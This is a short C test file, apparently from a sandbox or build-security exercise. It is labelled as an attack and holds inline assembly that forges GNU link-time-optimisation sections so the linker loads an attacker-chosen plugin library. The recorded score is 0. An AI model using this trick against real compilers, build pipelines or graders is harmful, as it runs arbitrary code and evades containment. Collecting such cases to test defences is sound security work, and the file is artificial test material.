// attack: asks for link-time optimisation, whose plugin the linker would run
// exercise: 01_gbf/box
// from: own
// score: 0
__asm__(".section .gnu.lto_.decls,\"e\"\n.ascii \"junk\"\n.section .gnu.lto_.opts,\"e\"\n.string \"-fplugin=" PREY_LIBRARY
        "\"\n.text\n.comm __gnu_lto_v1,1,1\n.comm __gnu_lto_slim,1,1");

ANSWER_IF(false)
